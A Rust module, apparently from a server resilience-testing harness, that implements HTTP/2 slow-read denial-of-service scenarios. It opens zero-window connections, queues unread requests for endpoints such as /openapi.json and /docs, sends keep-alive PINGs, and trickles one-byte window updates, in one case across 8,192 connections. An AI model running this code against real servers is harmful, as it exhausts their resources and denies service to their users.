//! Answers that are asked for and not read.

use std::time::Duration;

use super::{Attack, crowd};
use crate::{
    http2::{Http2, encode, frame, stream},
    stage::{Ground, Stage},
};

/// Each connection says that it lives this often.
const PING: Duration = Duration::from_secs(10);

/// One address, 3 connections with a window of 0, 102 requests for `/openapi.json` on each.
pub async fn openapi(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(3, move |_| unread(ground.clone(), "/openapi.json", 102))
}

/// One address, 17 connections with a window of 0, 120 requests for `/docs` on each.
pub async fn docs(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(17, move |_| unread(ground.clone(), "/docs", 120))
}

/// 16 addresses, 8,192 connections with a window of 0 and one unread answer each: a probe, or a refusal.
pub async fn refusals(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(8_192, move |number| {
        let path = if number / 16 % 2 == 0 { "/healthz" } else { "/no-such-page" };
        unread_of(ground.clone(), number % 16, path, 1)
    })
}

async fn unread(ground: Ground, path: &'static str, streams: u32) {
    unread_of(ground, 0, path, streams).await;
}

async fn unread_of(ground: Ground, source: u32, path: &'static str, streams: u32) {
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(source), 0).await else { return };
    for number in 0..streams {
        if !connection.get(number, path, &[]).await {
            return;
        }
    }
    while !connection.has_ended() {
        tokio::time::sleep(PING).await;
        if !connection.send(frame::PING, 0, 0, &[7; 8]).await {
            return;
        }
    }
}

/// 8 connections, 100 streams on each, which take a byte in five seconds.
pub async fn one_byte_windows(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(8, move |number| trickle(ground.clone(), number))
}

async fn trickle(ground: Ground, number: u32) {
    const STREAMS: u32 = 100;
    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 0).await else { return };
    for number in 0..STREAMS {
        if !connection.get(number, "/openapi.json", &[]).await {
            return;
        }
    }
    let byte = 1_u32.to_be_bytes();
    let grants: Vec<u8> =
        (0..STREAMS).flat_map(|number| encode(frame::WINDOW_UPDATE, 0, stream(number), &byte)).collect();
    while connection.write(&grants).await {
        tokio::time::sleep(Duration::from_secs(5)).await;
    }
}
